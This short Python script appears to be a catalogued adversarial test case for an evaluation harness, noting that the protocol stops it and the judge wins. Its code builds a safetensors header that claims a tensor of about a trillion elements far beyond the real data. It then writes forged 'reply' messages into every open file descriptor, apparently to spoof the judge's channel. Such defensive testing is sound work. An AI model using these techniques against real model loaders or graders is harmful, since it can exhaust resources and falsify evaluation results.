# tries: a safetensors header that claims more data than there is
# stopped-by: protocol
# wins: judge
# naive: trusting
import json
import os
import struct

lie = b'{"0":{"dtype":"F32","shape":[1099511627776],"data_offsets":[0,4398046511104]}}'
body = struct.pack("<Q", len(lie)) + lie + bytes(16)
header = json.dumps(
    {
        "kind": "reply",
        "refused": [],
        "output": ["tensor", 0],
        "inputs": ["list"],
        "values": ["list"],
        "gradients": ["dict"],
    }
).encode()
for fd in range(3, 64):
    try:
        for _ in range(10):
            os.write(fd, struct.pack("<IQ", len(header), len(body)) + header + body)
    except OSError:
        pass
